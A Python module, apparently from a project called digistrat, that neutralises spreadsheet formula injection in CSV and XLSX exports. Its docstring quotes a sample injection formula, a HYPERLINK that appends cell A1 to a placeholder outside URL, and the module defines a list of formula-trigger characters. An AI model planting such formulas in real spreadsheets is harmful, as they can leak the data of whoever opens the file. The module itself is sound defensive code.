"""Text cells that a spreadsheet must show as text, never run as a formula.

A title such as ``=HYPERLINK("https://example.org/?"&A1, "Hier klicken")`` or ``@SUM(1+1)``
comes from a project file that anyone may have edited. Excel and LibreOffice evaluate a cell
that starts with ``=``, ``+``, ``-`` or ``@`` (and, in CSV, after a leading tab or carriage
return) as a formula. Following the OWASP guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), every text cell digistrat writes into a
CSV file gets a leading apostrophe when it starts with one of those characters; in an XLSX
workbook the cell is stored as a string with Excel's "quote prefix" flag, so the value stays
exactly the text of the project file and is shown (and kept on editing) as text.

Only text cells go through here: figures are written as numbers, and a negative amount must
stay a number.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: Characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """True for a string a spreadsheet would evaluate instead of showing it."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_text(value: Any) -> Any:
    """A CSV text cell: ``'`` before a formula-like string, everything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """:func:`csv_text` for each cell of a row of text cells."""
    return [csv_text(v) for v in values]


def xlsx_text(cell, value: Any) -> None:
    """Put ``value`` into an openpyxl cell; a formula-like string becomes a quoted text cell."""
    cell.value = value
    if is_formula_like(value):
        cell.data_type = "s"  # openpyxl made "=…" a formula; it is text
        cell.quotePrefix = True


def xlsx_append(ws, values: Iterable[Any], *, row: int | None = None) -> int:
    """``ws.append(values)`` with every formula-like string kept as text; returns the row number.

    A caller that counts its rows passes ``row`` (the row ``append`` writes to): ``ws.max_row``
    scans every cell of the sheet, which makes a large export quadratic.
    """
    values = list(values)
    ws.append([None if is_formula_like(v) else v for v in values])
    if row is None:
        row = ws.max_row
    for col, value in enumerate(values, start=1):
        if is_formula_like(value):
            xlsx_text(ws.cell(row, col), value)
    return row
